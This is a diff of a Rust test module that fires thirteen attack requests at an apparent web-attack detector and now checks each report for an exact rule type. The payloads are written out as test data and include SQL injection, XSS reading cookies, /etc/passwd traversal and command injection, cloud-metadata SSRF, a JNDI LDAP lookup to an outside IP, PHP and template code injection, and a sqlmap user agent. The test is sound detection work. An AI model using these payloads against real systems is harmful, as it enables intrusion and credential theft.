@@ -14,8 +14,8 @@ use crate::servers::{Place, python};
 use crate::site::Site;
 use crate::workload::{exchange, gets, mark};
 
-/// An attack, the request, and words one of which the rule's type holds.
-type Attack = (&'static str, fn() -> Request, &'static [&'static str]);
+/// An attack, the request, and the type of a rule that has to match.
+type Attack = (&'static str, fn() -> Request, &'static str);
 
 fn get(query: &str) -> Request {
     Request::new("GET", mark("attack")).query(query)
@@ -31,13 +31,13 @@ const ATTACKS: [Attack; 13] = [
     (
         "SQL injection in a query",
         || get("id=1%27%20UNION%20SELECT%20name,%20email%20FROM%20users--%20"),
-        &["sql"],
+        "sql_injection",
     ),
-    ("SQL injection in a form", || post(FORM, "id=1%27+OR+%271%27%3D%271%27--+"), &["sql"]),
+    ("SQL injection in a form", || post(FORM, "id=1%27+OR+%271%27%3D%271%27--+"), "sql_injection"),
     (
         "SQL injection in JSON",
         || post("application/json", r#"{"id":["1' UNION SELECT a, b FROM c-- "]}"#),
-        &["sql"],
+        "sql_injection",
     ),
     (
         "SQL injection in a chunked form",
@@ -46,31 +46,27 @@ const ATTACKS: [Attack; 13] = [
                 .header("Content-Type", FORM)
                 .body(Body::Chunked(b"id=1%27+UNION+SELECT+a,b+FROM+c--+".to_vec(), 5))
         },
-        &["sql"],
+        "sql_injection",
     ),
-    ("script in a query", || get("q=%3Cscript%3Ealert(document.cookie)%3C/script%3E"), &["xss"]),
-    ("path traversal", || get("file=../../../../../../etc/passwd"), &["lfi", "traversal", "file"]),
-    ("command injection", || get("host=127.0.0.1%3Bcat%20/etc/passwd"), &["command", "rce", "lfi"]),
-    ("SSRF", || get("url=http://169.254.169.254/latest/meta-data/iam/"), &["ssrf"]),
+    ("script in a query", || get("q=%3Cscript%3Ealert(document.cookie)%3C/script%3E"), "xss"),
+    ("path traversal", || get("file=../../../../../../etc/passwd"), "lfi"),
+    ("command injection", || get("host=127.0.0.1%3Bcat%20/etc/passwd"), "command_injection"),
+    ("SSRF", || get("url=http://169.254.169.254/latest/meta-data/iam/"), "ssrf"),
     (
         "JNDI in a header",
         || Request::new("GET", mark("attack")).header("X-Api-Version", "${jndi:ldap://198.51.100.9/a}"),
-        &["jndi", "java", "log4", "code", "rce"],
+        "jndi",
     ),
-    ("PHP code", || get("x=%3C?php%20system(%27id%27);%20?%3E"), &["php", "code"]),
-    (
-        "a template",
-        || get("name=%7B%7B%27%27.__class__.__mro__%5B1%5D.__subclasses__()%7D%7D"),
-        &["template", "ssti", "code"],
-    ),
-    ("NoSQL injection", || get("user%5B$ne%5D=x&pass%5B$gt%5D="), &["nosql", "mongo"]),
+    ("PHP code", || get("x=%3C?php%20system(%27id%27);%20?%3E"), "php_code_injection"),
+    ("a template", || get("name=%7B%7B%27%27.__class__.__mro__%5B1%5D.__subclasses__()%7D%7D"), "ssti"),
+    ("NoSQL injection", || get("user%5B$ne%5D=x&role%5B$gt%5D="), "nosql_injection"),
     (
         "a scanner",
         || {
             Request::new("GET", mark("attack"))
                 .header("User-Agent", "sqlmap/1.7.2#stable (https://sqlmap.org)")
         },
-        &["scanner", "tool", "bot"],
+        "security_scanner",
     ),
 ];
 
@@ -83,9 +79,9 @@ pub fn attacks(site: &Site) -> Result<Vec<String>> {
     let mut sent = HashMap::new();
     for v6 in [false, true] {
         let mut connection = server.connect(v6)?;
-        for (name, request, words) in ATTACKS {
+        for (name, request, kind) in ATTACKS {
             let request = request();
-            sent.insert(request.path.clone(), (name, words));
+            sent.insert(request.path.clone(), (name, kind));
             exchange(&server, &mut connection, &request, 200, &mut attacks)?;
             gets(&server, &mut connection, "harmless", 1, &mut harmless)?;
         }
@@ -97,8 +93,8 @@ pub fn attacks(site: &Site) -> Result<Vec<String>> {
     let mut wrong = Vec::new();
     for report in &reports {
         match sent.get(report.path()) {
-            Some((name, words)) => {
-                if let Err(error) = judge(report, words) {
+            Some((name, kind)) => {
+                if let Err(error) = judge(report, kind) {
                     wrong.push(format!("{name}: {error}"));
                 }
             }
@@ -108,10 +104,10 @@ pub fn attacks(site: &Site) -> Result<Vec<String>> {
     }
     ensure!(
         wrong.is_empty(),
-        "{} of {} reports are wrong:\n{}",
+        "{} of {} reports are wrong, the first of them:\n{}",
         wrong.len(),
         reports.len(),
-        wrong.join("\n")
+        wrong[..wrong.len().min(ATTACKS.len())].join("\n")
     );
     // The attacks' user agents and queries are compared here too.
     let (attack_reports, rest): (Vec<_>, Vec<_>) =
@@ -122,7 +118,7 @@ pub fn attacks(site: &Site) -> Result<Vec<String>> {
 }
 
 /// Whether an attack's report is what docs/events.md says.
-fn judge(report: &Report, words: &[&str]) -> Result<()> {
+fn judge(report: &Report, kind: &str) -> Result<()> {
     ensure!(report.is_event(), "kind is {}, not \"event\": {report}", report.at("/kind"));
     ensure!(!report.matches().is_empty(), "no matches: {report}");
     for found in report.matches() {
@@ -133,8 +129,8 @@ fn judge(report: &Report, words: &[&str]) -> Result<()> {
         }
     }
     let types: Vec<&str> = report.matches().iter().filter_map(|m| m["tags"]["type"].as_str()).collect();
-    let right = types.iter().any(|t| words.iter().any(|w| t.contains(w)));
-    ensure!(right, "the types {types:?} hold none of {words:?}");
+    let right = types.contains(&kind);
+    ensure!(right, "the types {types:?} lack {kind:?}");
     ensure!(report.at("/blocked") == false, "blocked in monitoring: {report}");
     Ok(())
 }
